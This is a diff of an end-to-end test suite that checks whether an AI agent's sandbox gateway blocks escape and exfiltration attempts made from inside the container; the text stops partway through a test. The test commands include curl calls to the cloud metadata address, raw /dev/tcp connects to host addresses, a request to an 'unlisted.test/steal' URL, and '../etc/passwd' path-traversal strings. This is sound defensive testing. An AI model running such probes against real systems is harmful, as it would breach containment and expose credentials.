@@ -1,76 +1,72 @@
 import { execFileSync } from 'node:child_process';
+import { randomBytes } from 'node:crypto';
+import { writeFileSync } from 'node:fs';
+import { createServer as createHttpServer, type IncomingHttpHeaders, type Server as HttpServer } from 'node:http';
 import { createServer, type Server, type Socket } from 'node:net';
 import type { AddressInfo } from 'node:net';
 import { networkInterfaces } from 'node:os';
 import type Docker from 'dockerode';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { escapeTable, type EscapeRow } from '../../bench/escape.bench.js';
 import type { LifecycleEvent } from '../../src/events/schema.js';
 import { execIn } from '../support/docker.js';
 import { identityFrom, PIN_DEFAULT_HOSTS, startHarness, type BottleHarness } from '../support/cli-harness.js';
 
 /**
  * Escape attempts from INSIDE a real bottle (the built agent image, user
- * node, the worker's real networks and gateway). Each attempt is asserted
- * refused; where the gateway is the one refusing, the refusal must also be in
- * the bottle's event log as `egress.denied` with the matching host, port and
- * reason. Attempts that never reach the gateway (direct IP, DNS, no proxy)
- * are asserted refused at the network level, and their names say so.
+ * node, the worker's real networks and gateway), once per container runtime
+ * (runsc and runc, forced with CLAUDE_BOTTLE_RUNTIME). Each attempt is
+ * asserted refused; where the gateway is the one refusing, the refusal must
+ * also be in the bottle's event log as `egress.denied` with the matching
+ * host, port and reason. Attempts that never reach the gateway (direct IP,
+ * DNS, no proxy) are asserted refused at the network level, and their names
+ * say so.
+ *
+ * Every attempt is also a row of the escape table (runtime, issue 12 finding
+ * or "base", refused, recorded as an event, leaked), printed after the suite
+ * and written to $ESCAPE_TABLE_FILE for `npm run bench escape`. A new case
+ * records its row with `ledger.push` before asserting, so a failing case
+ * still shows in the table.
  *
  * Every target is either a `.test` name the gateway refuses without
- * connecting, or an address this test owns: a TCP listener on this host that
- * counts the connections and bytes it gets, reached only through the
- * gateway's pinned `allowed.test -> host-gateway`.
+ * connecting, an IP literal the address policy refuses without connecting,
+ * or an address this test owns: a TCP listener on this host that counts the
+ * connections and bytes it gets, and an HTTP server that reflects every
+ * request it gets (so a leaked secret would come back in the body), both
+ * reached only through the gateway's pinned `allowed.test` / `gh.test` ->
+ * host-gateway.
  */
-let h: BottleHarness;
-let identity: string;
-let agent: Docker.Container;
-let gatewayIp: string; // the gateway's address on the bottle's internal network
-let gatewayEgressIp: string; // the gateway's address on the egress network
-let internalBridgeGw: string; // this host, as seen from the internal bridge
-let egressBridgeGw: string; // this host, as seen from the egress bridge
+const RUNTIMES = ['runsc', 'runc'] as const;
+const ROUTE_HOST = 'gh.test';
+const TOKEN_ENV = 'ESCAPE_SUITE_ROUTE_TOKEN';
+const AGENT_CA = '/home/node/.claude-bottle/gateway-ca.pem';
+
+const ledger: EscapeRow[] = [];
 let listener: { server: Server; port: number; connections: number; bytes: number; sockets: Set<Socket> };
+let reflector: {
+  server: HttpServer;
+  port: number;
+  seen: Array<{ method: string; url: string; headers: IncomingHttpHeaders }>;
+};
 
 beforeAll(async () => {
-  h = await startHarness();
   listener = await startCountingListener();
-  const manifest = h.writeManifest({
-    bottles: [
-      {
-        name: 'jail',
-        egress: {
-          allow: [
-            'allowed.test',
-            `allowed.test:${listener.port}`,
-            // Allowlisted on purpose: the address policy, not the allowlist, must refuse these.
-            '169.254.169.254',
-            '[::1]',
-          ],
-        },
-        extra_hosts: { ...PIN_DEFAULT_HOSTS, 'allowed.test': 'host-gateway' },
-      },
-    ],
-    agents: [{ name: 'prisoner', bottle: 'jail', command: ['sleep', '900'] }],
-  });
-  identity = identityFrom(await h.cli(['--manifest', manifest, 'start', 'prisoner', '--detach']));
-  const events = await h.waitForEvent(identity, 'agent.started');
-  gatewayIp = (events.find((e) => e.type === 'gateway.started')!.data as { ip: string }).ip;
-  agent = h.docker.getContainer(`cb-${identity}-agent`);
-  const gw = await h.docker.getContainer(`cb-${identity}-gateway`).inspect();
-  gatewayEgressIp = gw.NetworkSettings.Networks[`cb-${identity}-egress`].IPAddress;
-  const [internalNet, egressNet] = await Promise.all([
-    h.docker.getNetwork(`cb-${identity}-internal`).inspect() as Promise<{ IPAM: { Config: Array<{ Gateway?: string }> } }>,
-    h.docker.getNetwork(`cb-${identity}-egress`).inspect() as Promise<{ IPAM: { Config: Array<{ Gateway?: string }> } }>,
-  ]);
-  internalBridgeGw = internalNet.IPAM.Config[0].Gateway!;
-  egressBridgeGw = egressNet.IPAM.Config[0].Gateway!;
-}, 180_000);
+  reflector = await startReflector();
+});
 
 afterAll(async () => {
   if (listener) {
     for (const s of listener.sockets) s.destroy();
     await new Promise<void>((resolve) => listener.server.close(() => resolve()));
   }
-  await h?.cleanup();
+  if (reflector) {
+    reflector.server.closeAllConnections();
+    await new Promise<void>((resolve) => reflector.server.close(() => resolve()));
+  }
+  if (ledger.length > 0) {
+    console.log(`\nEscape table\n${escapeTable(ledger)}`);
+    if (process.env.ESCAPE_TABLE_FILE) writeFileSync(process.env.ESCAPE_TABLE_FILE, JSON.stringify(ledger, null, 2));
+  }
 });
 
 /** A TCP listener on all of this host's addresses that accepts, counts and never answers. */
@@ -87,15 +83,16 @@ async function startCountingListener(): Promise<typeof listener> {
   return Object.assign(state, { server, port: (server.address() as AddressInfo).port });
 }
 
-/** Runs a shell command in the agent container as its own user (node), with the agent's environment. */
-function inAgent(cmd: string): Promise<{ code: number; output: string }> {
-  return execIn(agent, ['sh', '-c', cmd], { user: 'node' });
-}
-
-const proxy = () => `http://${gatewayIp}:3128`;
-
-async function mark(): Promise<number> {
-  return h.log.lastSeq(identity);
+/** An HTTP server that answers every request with the request itself, headers included (as TRACE would). */
+async function startReflector(): Promise<typeof reflector> {
+  const seen: typeof reflector.seen = [];
+  const server = createHttpServer((req, res) => {
+    seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers });
+    res.setHeader('content-type', 'text/plain');
+    res.end(`reflected ${req.method} ${req.url}\n${JSON.stringify(req.headers)}\n`);
+  });
+  await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
+  return { server, port: (server.address() as AddressInfo).port, seen };
 }
 
 interface Denial {
@@ -105,201 +102,617 @@ interface Denial {
   reason: string;
 }
 
-/** Waits for the gateway's refusal to arrive in the event log as egress.denied after `afterSeq`. */
-async function deniedEvent(afterSeq: number, match: Partial<Denial>, timeoutMs = 20_000): Promise<Denial> {
-  const deadline = Date.now() + timeoutMs;
-  let seen: LifecycleEvent[] = [];
-  for (;;) {
-    seen = await h.log.read(identity, afterSeq + 1);
-    const hit = seen.find((e) => e.type === 'egress.denied' && Object.entries(match).every(([k, v]) => (e.data as Record<string, unknown>)[k] === v));
-    if (hit) return hit.data as Denial;
-    if (Date.now() > deadline) {
-      throw new Error(`no egress.denied matching ${JSON.stringify(match)}; saw ${JSON.stringify(seen.map((e) => [e.type, e.data]))}`);
-    }
-    await new Promise((r) => setTimeout(r, 150));
+describe.each(RUNTIMES)('escape attempts from inside a real bottle under %s are refused', (runtime) => {
+  let h: BottleHarness;
+  let identity: string;
+  let agent: Docker.Container;
+  let secret: string;
+  let gatewayIp: string; // the gateway's address on the bottle's internal network
+  let gatewayEgressIp: string; // the gateway's address on the egress network
+  let internalBridgeGw: string; // this host, as seen from the internal bridge
+  let egressBridgeGw: string; // this host, as seen from the egress bridge
+
+  beforeAll(async () => {
+    secret = `ghp_${randomBytes(16).toString('hex')}`;
+    h = await startHarness({ env: { CLAUDE_BOTTLE_RUNTIME: runtime } });
+    const manifest = h.writeManifest({
+      bottles: [
+        {
+          name: 'jail',
+          egress: {
+            allow: [
+              'allowed.test',
+              `allowed.test:${listener.port}`,
+              `allowed.test:${reflector.port}`,
+              // Allowlisted on purpose: the address policy, not the allowlist, must refuse these.
+              '169.254.169.254',
+              '[::1]',
+              '[64:ff9b::7f00:1]',
+              '[2002:7f00:1::1]',
+              '[fec0::1]',
+            ],
+          },
+          cred_proxy: {
+            routes: [
+              {
+                host: ROUTE_HOST,
+                upstream: `http://${ROUTE_HOST}:${reflector.port}`,
+                token_env: TOKEN_ENV,
+                auth: 'bearer',
+              },
+            ],
+          },
+          extra_hosts: { ...PIN_DEFAULT_HOSTS, 'allowed.test': 'host-gateway', [ROUTE_HOST]: 'host-gateway' },
+        },
+      ],
+      agents: [{ name: 'prisoner', bottle: 'jail', command: ['sleep', '1800'] }],
+    });
+    const started = await h.cli(['--manifest', manifest, 'start', 'prisoner', '--detach'], {
+      env: { [TOKEN_ENV]: secret },
+    });
+    identity = identityFrom(started);
+    const events = await h.waitForEvent(identity, 'agent.started');
+    expect(events.find((e) => e.type === 'agent.started')!.data).toMatchObject({ runtime });
+    gatewayIp = (events.find((e) => e.type === 'gateway.started')!.data as { ip: string }).ip;
+    agent = h.docker.getContainer(`cb-${identity}-agent`);
+    const gw = await h.docker.getContainer(`cb-${identity}-gateway`).inspect();
+    gatewayEgressIp = gw.NetworkSettings.Networks[`cb-${identity}-egress`].IPAddress;
+    const [internalNet, egressNet] = await Promise.all([
+      h.docker.getNetwork(`cb-${identity}-internal`).inspect() as Promise<{
+        IPAM: { Config: Array<{ Gateway?: string }> };
+      }>,
+      h.docker.getNetwork(`cb-${identity}-egress`).inspect() as Promise<{
+        IPAM: { Config: Array<{ Gateway?: string }> };
+      }>,
+    ]);
+    internalBridgeGw = internalNet.IPAM.Config[0].Gateway!;
+    egressBridgeGw = egressNet.IPAM.Config[0].Gateway!;
+  }, 240_000);
+
+  afterAll(async () => {
+    await h?.cleanup();
+  });
+
+  /** Runs a shell command in the agent container as its own user (node), with the agent's environment. */
+  function inAgent(cmd: string): Promise<{ code: number; output: string }> {
+    return execIn(agent, ['sh', '-c', cmd], { user: 'node' });
   }
-}
 
-describe('escape attempts from inside a real bottle are refused', () => {
-  it('network level: a direct connection to this host through the internal bridge address fails and never arrives', async () => {
-    const before = listener.connections;
-    const r = await inAgent(`curl -sS --noproxy '*' --max-time 3 http://${internalBridgeGw}:${listener.port}/`);
-    expect(r.code, r.output).not.toBe(0);
-    expect(listener.connections).toBe(before);
-  });
+  const proxy = () => `http://${gatewayIp}:3128`;
+  const credentialPort = () => `http://${gatewayIp}:3129`;
 
-  it('network level: a direct connection to the egress bridge address and to the gateway egress address fails', async () => {
-    const before = listener.connections;
-    const host = await inAgent(`curl -sS --noproxy '*' --max-time 3 http://${egressBridgeGw}:${listener.port}/`);
-    expect(host.code, host.output).not.toBe(0);
-    const gw = await inAgent(`curl -sS --noproxy '*' --max-time 3 http://${gatewayEgressIp}:3128/`);
-    expect(gw.code, gw.output).not.toBe(0);
-    expect(listener.connections).toBe(before);
-  });
+  async function mark(): Promise<number> {
+    return h.log.lastSeq(identity);
+  }
 
-  it('network level: outside DNS does not work in the agent (a name only the gateway knows does not resolve)', async () => {
-    // The gateway resolves allowed.test (pinned); the agent's own resolver must not answer it, nor anything else.
-    const r = await inAgent('timeout 8 getent hosts allowed.test; echo "rc=$?"');
-    expect(r.output).toMatch(/rc=(2|124)/);
-    expect(r.output).not.toMatch(/\d+\.\d+\.\d+\.\d+\s+allowed\.test/);
-  });
-
-  it('network level: with the proxy variables ignored, an allowlisted name cannot be reached (no DNS, no route)', async () => {
-    const before = listener.connections;
-    const r = await inAgent(`env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy curl -sS --noproxy '*' --max-time 3 http://allowed.test:${listener.port}/`);
-    expect(r.code, r.output).not.toBe(0);
-    // curl's own resolver gets no answer: "Could not resolve host" or "Resolving timed out".
-    expect(r.output).toMatch(/resolv/i);
-    expect(listener.connections).toBe(before);
-  });
-
-  it("network level: none of this host's IPv4 addresses is reachable directly, and no connection arrives", async () => {
-    const agentRuntime = (await agent.inspect()).HostConfig.Runtime;
-    expect(['runc', 'runsc']).toContain(agentRuntime);
-    // Every address of every interface (other bottles' egress bridges included) is "the host" to a container.
-    const addresses = Object.values(networkInterfaces())
-      .flat()
-      .filter((a) => a !== undefined && a.family === 'IPv4' && !a.internal)
-      .map((a) => a!.address);
-    const targets = [...new Set([internalBridgeGw, egressBridgeGw, ...addresses])];
-    expect(targets.length).toBeGreaterThan(2);
-    const before = listener.connections;
-    // A bare TCP connect, all side by side: "reached" is printed for any address that accepts.
-    const connect = (ip: string) =>
-      `(timeout 3 bash -c 'exec 3<>/dev/tcp/${ip}/${listener.port}' && echo "reached ${ip}") &`;
-    const r = await inAgent(`${targets.map(connect).join(' ')} wait; echo done`);
-    expect(r.output, `${agentRuntime}: ${r.output}`).not.toContain('reached');
-    expect(r.output).toContain('done');
-    expect(listener.connections).toBe(before);
-  });
-
-  it('network level: the agent has no IPv6 address on any network, and a direct IPv6-literal connection fails', async () => {
-    const info = await agent.inspect();
-    for (const [name, net] of Object.entries(info.NetworkSettings.Networks)) {
-      expect(net.GlobalIPv6Address, name).toBe('');
+  /** Waits for the gateway's refusal to arrive in the event log as egress.denied after `afterSeq`. */
+  async function deniedEvent(afterSeq: number, match: Partial<Denial>, timeoutMs = 20_000): Promise<Denial> {
+    const deadline = Date.now() + timeoutMs;
+    let seen: LifecycleEvent[] = [];
+    for (;;) {
+      seen = await h.log.read(identity, afterSeq + 1);
+      const hit = seen.find(
+        (e) =>
+          e.type === 'egress.denied' &&
+          Object.entries(match).every(([k, v]) => (e.data as Record<string, unknown>)[k] === v),
+      );
+      if (hit) return hit.data as Denial;
+      if (Date.now() > deadline) {
+        throw new Error(
+          `no egress.denied matching ${JSON.stringify(match)}; saw ${JSON.stringify(seen.map((e) => [e.type, e.data]))}`,
+        );
+      }
+      await new Promise((r) => setTimeout(r, 150));
     }
-    const before = listener.connections;
-    // The IPv4-mapped literal of this host's egress-bridge address: an address this test owns.
-    const r = await inAgent(`curl -sS -6 --noproxy '*' --max-time 3 -g 'http://[::ffff:${egressBridgeGw}]:${listener.port}/'`);
-    expect(r.code, r.output).not.toBe(0);
-    expect(listener.connections).toBe(before);
-  });
+  }
 
-  it('network level: the metadata address is unreachable directly (nothing on the host routes for the internal bridge)', async () => {
-    // Guard first: only send the packet if it provably cannot leave the machine: the bridge holds no
-    // host address (so the agent's default route has no next hop that answers), and the host drops
-    // anything forwarded off the bridge.
-    const net = (await h.docker.getNetwork(`cb-${identity}-internal`).inspect()) as { Id: string; IPAM: { Config: Array<{ Subnet: string }> } };
-    const bridge = `br-${net.Id.slice(0, 12)}`;
-    expect((networkInterfaces()[bridge] ?? []).filter((a) => a.family === 'IPv4')).toEqual([]);
-    const rules = execFileSync('iptables', ['-S'], { encoding: 'utf8' });
-    expect(rules).toContain(`! -d ${net.IPAM.Config[0].Subnet} -i ${bridge} -j DROP`);
-    const r = await inAgent(`curl -sS --noproxy '*' --max-time 4 http://169.254.169.254/latest/meta-data/`);
-    expect(r.code, r.output).not.toBe(0);
-    expect(r.output).toMatch(/timed out|Failed to connect|unreachable/i);
-  });
-
-  it('gateway: the metadata address through the proxy is refused by the address policy (private_address), even though allowlisted', async () => {
-    const at = await mark();
-    const r = await inAgent(`curl -sS --max-time 10 -x ${proxy()} -w '\\n%{http_code}' http://169.254.169.254/latest/meta-data/`);
-    expect(r.output).toMatch(/403$/);
-    expect(r.output).toContain('private_address');
-    await deniedEvent(at, { host: '169.254.169.254', port: 80, reason: 'private_address' });
-  });
-
-  it('gateway: an IPv6 loopback literal through the proxy is refused by the address policy; an unlisted v6 literal by the allowlist', async () => {
-    let at = await mark();
-    const loop = await inAgent(`curl -sS --max-time 10 -x ${proxy()} -w '\\n%{http_code}' -g 'http://[::1]/'`);
-    expect(loop.output).toMatch(/403$/);
-    await deniedEvent(at, { host: '::1', port: 80, reason: 'private_address' });
-    at = await mark();
-    const unlisted = await inAgent(`curl -sS --max-time 10 -p -x ${proxy()} -g 'https://[fd00::1]/'`);
-    expect(unlisted.code).not.toBe(0);
-    expect(unlisted.output).toMatch(/403/);
-    await deniedEvent(at, { host: 'fd00::1', port: 443, method: 'CONNECT', reason: 'not_in_allowlist' });
-  });
-
-  it('gateway: CONNECT to an allowlisted host on another port is refused (port_not_allowed)', async () => {
-    const at = await mark();
-    const r = await inAgent(`curl -sS --max-time 10 -p -x ${proxy()} https://allowed.test:8443/`);
-    expect(r.code).not.toBe(0);
-    expect(r.output).toMatch(/403/);
-    await deniedEvent(at, { host: 'allowed.test', port: 8443, method: 'CONNECT', reason: 'port_not_allowed' });
-  });
-
-  it('gateway: CONNECT to an unlisted host is refused (not_in_allowlist)', async () => {
-    const at = await mark();
-    const r = await inAgent(`curl -sS --max-time 10 -p -x ${proxy()} https://unlisted.test/`);
-    expect(r.code).not.toBe(0);
-    expect(r.output).toMatch(/403/);
-    await deniedEvent(at, { host: 'unlisted.test', port: 443, method: 'CONNECT', reason: 'not_in_allowlist' });
-  });
-
-  it('gateway: an absolute-form request to an unlisted host is refused with a JSON 403 (not_in_allowlist)', async () => {
-    const at = await mark();
-    const r = await inAgent(`curl -sS --max-time 10 -x ${proxy()} -w '\\n%{http_code}' http://unlisted.test/steal`);
-    expect(r.output).toMatch(/403$/);
-    const body = JSON.parse(r.output.slice(0, r.output.lastIndexOf('\n'))) as { error: string; host: string; reason: string };
-    expect(body).toMatchObject({ error: 'egress_denied', host: 'unlisted.test', reason: 'not_in_allowlist' });
-    await deniedEvent(at, { host: 'unlisted.test', port: 80, method: 'GET', reason: 'not_in_allowlist' });
-  });
-
-  it('gateway: a TLS name other than the CONNECT host is refused before any byte reaches the upstream (tls_sni_mismatch)', async () => {
-    const bytesBefore = listener.bytes;
-    const at = await mark();
-    const r = await inAgent(
-      `timeout 15 openssl s_client -proxy ${gatewayIp}:3128 -connect allowed.test:${listener.port} -servername other.test </dev/null`,
+  async function recordedAs(afterSeq: number, match: Partial<Denial>, timeoutMs?: number): Promise<boolean> {
+    return deniedEvent(afterSeq, match, timeoutMs).then(
+      () => true,
+      () => false,
     );
-    expect(r.code).not.toBe(0);
-    await deniedEvent(at, { host: 'allowed.test', port: listener.port, method: 'CONNECT', reason: 'tls_sni_mismatch' });
-    expect(listener.bytes).toBe(bytesBefore);
-  });
+  }
 
-  it('control: the same tunnel with the matching TLS name is forwarded (so the SNI check above is what refused)', async () => {
-    const bytesBefore = listener.bytes;
-    // The listener never answers, so s_client waits; the ClientHello reaching the listener is the proof.
-    await inAgent(`timeout 3 openssl s_client -proxy ${gatewayIp}:3128 -connect allowed.test:${listener.port} -servername allowed.test </dev/null`);
-    expect(listener.bytes).toBeGreaterThan(bytesBefore);
-  });
+  function row(
+    finding: string,
+    attempt: string,
+    outcome: { refused: boolean; recorded: boolean | null; leaked: boolean },
+  ): void {
+    ledger.push({ runtime, finding, attempt, ...outcome });
+  }
 
-  it('gateway: a request with 64 KiB of headers is refused (431 header_too_large)', async () => {
+  /** A refusal at the network level: nothing answered and nothing arrived at this host's listener. */
+  function networkRow(attempt: string, failed: boolean, connectionsBefore: number): void {
+    row('base', attempt, { refused: failed, recorded: null, leaked: listener.connections !== connectionsBefore });
+  }
+
+  /**
+   * One HTTP attempt that must be refused by the gateway with `status`, recorded as `match`,
+   * with nothing reaching the reflecting upstream and the route secret nowhere in the answer.
+   */
+  async function gatewayAttempt(
+    finding: string,
+    attempt: string,
+    curlArgs: string,
+    status: number,
+    match: Partial<Denial>,
+  ): Promise<string> {
     const at = await mark();
-    const r = await inAgent(
-      `curl -sS --max-time 10 -x ${proxy()} -w '\\n%{http_code}' -H "X-Big: $(head -c 65536 /dev/zero | tr '\\0' a)" http://allowed.test/`,
-    );
-    expect(r.output).toMatch(/431$/);
-    await deniedEvent(at, { reason: 'header_too_large' });
+    const before = reflector.seen.length;
+    const r = await inAgent(`curl -sS --max-time 10 -w '\\n%{http_code}' ${curlArgs}`);
+    const refused = new RegExp(`${status}$`).test(r.output.trim());
+    const recorded = await recordedAs(at, match);
+    const leaked = reflector.seen.length !== before || r.output.includes(secret);
+    row(finding, attempt, { refused, recorded, leaked });
+    expect(r.output, attempt).toMatch(new RegExp(`${status}$`));
+    expect(recorded, `${attempt}: egress.denied ${JSON.stringify(match)}`).toBe(true);
+    expect(leaked, attempt).toBe(false);
+    return r.output;
+  }
+
+  describe('network level (the agent has no way out but the gateway)', () => {
+    it('a direct connection to this host through the internal bridge address fails and never arrives', async () => {
+      const before = listener.connections;
+      const r = await inAgent(`curl -sS --noproxy '*' --max-time 3 http://${internalBridgeGw}:${listener.port}/`);
+      networkRow('direct TCP to the internal bridge address', r.code !== 0, before);
+      expect(r.code, r.output).not.toBe(0);
+      expect(listener.connections).toBe(before);
+    });
+
+    it('a direct connection to the egress bridge address and to the gateway egress address fails', async () => {
+      const before = listener.connections;
+      const host = await inAgent(`curl -sS --noproxy '*' --max-time 3 http://${egressBridgeGw}:${listener.port}/`);
+      const gw = await inAgent(`curl -sS --noproxy '*' --max-time 3 http://${gatewayEgressIp}:3128/`);
+      networkRow('direct TCP to the egress bridge / gateway egress address', host.code !== 0 && gw.code !== 0, before);
+      expect(host.code, host.output).not.toBe(0);
+      expect(gw.code, gw.output).not.toBe(0);
+      expect(listener.connections).toBe(before);
+    });
+
+    it('outside DNS does not work in the agent (a name only the gateway knows does not resolve)', async () => {
+      // The gateway resolves allowed.test (pinned); the agent's own resolver must not answer it, nor anything else.
+      const r = await inAgent('timeout 8 getent hosts allowed.test; echo "rc=$?"');
+      const refused = /rc=(2|124)/.test(r.output) && !/\d+\.\d+\.\d+\.\d+\s+allowed\.test/.test(r.output);
+      row('base', 'DNS lookup from the agent', { refused, recorded: null, leaked: !refused });
+      expect(r.output).toMatch(/rc=(2|124)/);
+      expect(r.output).not.toMatch(/\d+\.\d+\.\d+\.\d+\s+allowed\.test/);
+    });
+
+    it('with the proxy variables ignored, an allowlisted name cannot be reached (no DNS, no route)', async () => {
+      const before = listener.connections;
+      const r = await inAgent(
+        `env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy curl -sS --noproxy '*' --max-time 3 http://allowed.test:${listener.port}/`,
+      );
+      networkRow('allowlisted name without the proxy', r.code !== 0, before);
+      expect(r.code, r.output).not.toBe(0);
+      // curl's own resolver gets no answer: "Could not resolve host" or "Resolving timed out".
+      expect(r.output).toMatch(/resolv/i);
+      expect(listener.connections).toBe(before);
+    });
+
+    it("none of this host's IPv4 addresses is reachable directly, and no connection arrives", async () => {
+      expect((await agent.inspect()).HostConfig.Runtime).toBe(runtime);
+      // Every address of every interface (other bottles' egress bridges included) is "the host" to a container.
+      const addresses = Object.values(networkInterfaces())
+        .flat()
+        .filter((a) => a !== undefined && a.family === 'IPv4' && !a.internal)
+        .map((a) => a!.address);
+      const targets = [...new Set([internalBridgeGw, egressBridgeGw, ...addresses])];
+      expect(targets.length).toBeGreaterThan(2);
+      const before = listener.connections;
+      // A bare TCP connect, all side by side: "reached" is printed for any address that accepts.
+      const connect = (ip: string) =>
+        `(timeout 3 bash -c 'exec 3<>/dev/tcp/${ip}/${listener.port}' && echo "reached ${ip}") &`;
+      const r = await inAgent(`${targets.map(connect).join(' ')} wait; echo done`);
+      networkRow(`direct TCP to every host IPv4 address (${targets.length})`, !r.output.includes('reached'), before);
+      expect(r.output, `${runtime}: ${r.output}`).not.toContain('reached');
+      expect(r.output).toContain('done');
+      expect(listener.connections).toBe(before);
+    });
+
+    it('the agent has no IPv6 address on any network, and a direct IPv6-literal connection fails', async () => {
+      const info = await agent.inspect();
+      for (const [name, net] of Object.entries(info.NetworkSettings.Networks)) {
+        expect(net.GlobalIPv6Address, name).toBe('');
+      }
+      const before = listener.connections;
+      // The IPv4-mapped literal of this host's egress-bridge address: an address this test owns.
+      const r = await inAgent(
+        `curl -sS -6 --noproxy '*' --max-time 3 -g 'http://[::ffff:${egressBridgeGw}]:${listener.port}/'`,
+      );
+      networkRow('direct IPv6-literal connection', r.code !== 0, before);
+      expect(r.code, r.output).not.toBe(0);
+      expect(listener.connections).toBe(before);
+    });
+
+    it('the metadata address is unreachable directly (nothing routes off the internal bridge)', async () => {
+      // Guard first: only send the packet if it provably cannot leave the machine: the bridge holds no
+      // host address (so the agent's default route has no next hop that answers), and the host drops
+      // anything forwarded off the bridge.
+      const net = (await h.docker.getNetwork(`cb-${identity}-internal`).inspect()) as {
+        Id: string;
+        IPAM: { Config: Array<{ Subnet: string }> };
+      };
+      const bridge = `br-${net.Id.slice(0, 12)}`;
+      expect((networkInterfaces()[bridge] ?? []).filter((a) => a.family === 'IPv4')).toEqual([]);
+      const rules = execFileSync('iptables', ['-S'], { encoding: 'utf8' });
+      expect(rules).toContain(`! -d ${net.IPAM.Config[0].Subnet} -i ${bridge} -j DROP`);
+      const r = await inAgent(`curl -sS --noproxy '*' --max-time 4 http://169.254.169.254/latest/meta-data/`);
+      row('base', 'direct connection to the metadata address', {
+        refused: r.code !== 0,
+        recorded: null,
+        leaked: false,
+      });
+      expect(r.code, r.output).not.toBe(0);
+      expect(r.output).toMatch(/timed out|Failed to connect|unreachable/i);
+    });
   });
 
-  it('gateway: path escapes on the credential port are refused (400 path_escape), plain and percent-encoded', async () => {
-    for (const path of ['/../x', '/%2e%2e/x', '/v1/%2E%2E/%2e%2e/etc/passwd']) {
+  describe('gateway (what it covered before issue 12)', () => {
+    it('the metadata address via the proxy is refused by the address policy though allowlisted', async () => {
+      const out = await gatewayAttempt(
+        'base',
+        'metadata address via the proxy',
+        `-x ${proxy()} http://169.254.169.254/latest/meta-data/`,
+        403,
+        {
+          host: '169.254.169.254',
+          port: 80,
+          reason: 'private_address',
+        },
+      );
+      expect(out).toContain('private_address');
+    });
+
+    it('IPv6 literals via the proxy: loopback refused by the address policy, unlisted by the allowlist', async () => {
+      await gatewayAttempt('base', 'IPv6 loopback literal via the proxy', `-x ${proxy()} -g 'http://[::1]/'`, 403, {
+        host: '::1',
+        port: 80,
+        reason: 'private_address',
+      });
       const at = await mark();
-      const r = await inAgent(`curl -sS --noproxy '*' --path-as-is --max-time 10 -w '\\n%{http_code}' 'http://${gatewayIp}:3129${path}'`);
-      expect(r.output, path).toMatch(/400$/);
-      expect(r.output).toContain('path_escape');
-      await deniedEvent(at, { reason: 'path_escape' });
-    }
+      const unlisted = await inAgent(`curl -sS --max-time 10 -p -x ${proxy()} -g 'https://[fd00::1]/'`);
+      const recorded = await recordedAs(at, {
+        host: 'fd00::1',
+        port: 443,
+        method: 'CONNECT',
+        reason: 'not_in_allowlist',
+      });
+      row('base', 'CONNECT to an unlisted IPv6 literal', {
+        refused: unlisted.code !== 0 && /403/.test(unlisted.output),
+        recorded,
+        leaked: false,
+      });
+      expect(unlisted.code).not.toBe(0);
+      expect(unlisted.output).toMatch(/403/);
+      expect(recorded).toBe(true);
+    });
+
+    it('CONNECT to an allowlisted host on another port is refused (port_not_allowed)', async () => {
+      const at = await mark();
+      const r = await inAgent(`curl -sS --max-time 10 -p -x ${proxy()} https://allowed.test:8443/`);
+      const recorded = await recordedAs(at, {
+        host: 'allowed.test',
+        port: 8443,
+        method: 'CONNECT',
+        reason: 'port_not_allowed',
+      });
+      row('base', 'CONNECT to an allowlisted host, other port', {
+        refused: r.code !== 0 && /403/.test(r.output),
+        recorded,
+        leaked: false,
+      });
+      expect(r.code).not.toBe(0);
+      expect(r.output).toMatch(/403/);
+      expect(recorded).toBe(true);
+    });
+
+    it('CONNECT to an unlisted host is refused (not_in_allowlist)', async () => {
+      const at = await mark();
+      const r = await inAgent(`curl -sS --max-time 10 -p -x ${proxy()} https://unlisted.test/`);
+      const recorded = await recordedAs(at, {
+        host: 'unlisted.test',
+        port: 443,
+        method: 'CONNECT',
+        reason: 'not_in_allowlist',
+      });
+      row('base', 'CONNECT to an unlisted host', {
+        refused: r.code !== 0 && /403/.test(r.output),
+        recorded,
+        leaked: false,
+      });
+      expect(r.code).not.toBe(0);
+      expect(r.output).toMatch(/403/);
+      expect(recorded).toBe(true);
+    });
+
+    it('an absolute-form request to an unlisted host is refused with a JSON 403 (not_in_allowlist)', async () => {
+      const out = await gatewayAttempt(
+        'base',
+        'plain HTTP to an unlisted host',
+        `-x ${proxy()} http://unlisted.test/steal`,
+        403,
+        {
+          host: 'unlisted.test',
+          port: 80,
+          method: 'GET',
+          reason: 'not_in_allowlist',
+        },
+      );
+      const body = JSON.parse(out.slice(0, out.lastIndexOf('\n'))) as { error: string; host: string; reason: string };
+      expect(body).toMatchObject({ error: 'egress_denied', host: 'unlisted.test', reason: 'not_in_allowlist' });
+    });
+
+    it('a TLS name other than the CONNECT host is refused before any byte is forwarded (tls_sni_mismatch)', async () => {
+      const bytesBefore = listener.bytes;
+      const at = await mark();
+      const r = await inAgent(
+        `timeout 15 openssl s_client -proxy ${gatewayIp}:3128 -connect allowed.test:${listener.port} -servername other.test </dev/null`,
+      );
+      const recorded = await recordedAs(at, {
+        host: 'allowed.test',
+        port: listener.port,
+        method: 'CONNECT',
+        reason: 'tls_sni_mismatch',
+      });
+      row('base', 'TLS naming another host in an allowed tunnel', {
+        refused: r.code !== 0,
+        recorded,
+        leaked: listener.bytes !== bytesBefore,
+      });
+      expect(r.code).not.toBe(0);
+      expect(recorded).toBe(true);
+      expect(listener.bytes).toBe(bytesBefore);
+    });
+
+    it('control: the same tunnel with the matching TLS name is forwarded (the SNI check is what refused)', async () => {
+      const bytesBefore = listener.bytes;
+      // The listener never answers, so s_client waits; the ClientHello reaching the listener is the proof.
+      await inAgent(
+        `timeout 3 openssl s_client -proxy ${gatewayIp}:3128 -connect allowed.test:${listener.port} -servername allowed.test </dev/null`,
+      );
+      expect(listener.bytes).toBeGreaterThan(bytesBefore);
+    });
+
+    it('a request with 64 KiB of headers is refused (431 header_too_large)', async () => {
+      await gatewayAttempt(
+        'base',
+        'oversized request headers',
+        `-x ${proxy()} -H "X-Big: $(head -c 65536 /dev/zero | tr '\\0' a)" http://allowed.test/`,
+        431,
+        { reason: 'header_too_large' },
+      );
+    });
+
+    it('path escapes on the credential port are refused (400 path_escape), plain and percent-encoded', async () => {
